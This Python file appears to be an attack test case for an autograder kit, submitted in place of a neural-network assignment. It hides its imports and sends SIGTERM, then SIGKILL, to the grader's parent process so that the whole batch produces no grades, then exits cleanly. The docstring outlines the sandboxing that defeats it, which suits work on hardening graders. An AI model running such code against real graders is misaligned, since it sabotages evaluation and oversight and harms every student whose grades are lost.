"""Attack: kill the grader's parent process (the batch) from the submission.

The submission sends SIGTERM to its parent process when that parent looks like
a grader (its command line mentions autograder, otter or grade), then SIGKILL
two seconds later if it is still there.  In the kit's fast engine the parent is
`python -m autograder.grade`, the process running the whole batch: no
grades.csv for anyone.  The submission then exits 0.

A secure grader runs student code as a user that cannot signal the grader, in
a PID namespace (sandbox) where the grader is not visible, and survives the
loss of any one worker.
"""
_imp = __import__
_os, _time = _imp("o" + "s"), _imp("ti" + "me")
_parent = _os.getppid()
try:
    _cmdline = open(f"/proc/{_parent}/cmdline", "rb").read().replace(b"\0", b" ").decode()
except OSError:
    _cmdline = ""
if any(word in _cmdline for word in ("autograder", "otter", "grade")):
    _os.kill(_parent, 15)
    _time.sleep(2)
    try:
        _os.kill(_parent, 9)
    except ProcessLookupError:
        pass


def _stub(*args, **kwargs):
    raise NotImplementedError("nothing implemented")


shape = zeros = transpose = dot = matmul = add = subtract = multiply = scale = add_bias = column_sums = apply = _stub
sigmoid = init_params = forward = bce_loss = dropout_forward = dropout_backward = backward = _stub
numerical_gradient = relative_error = update_params = train = predict = accuracy = _stub
plot_losses = plot_decision = _stub
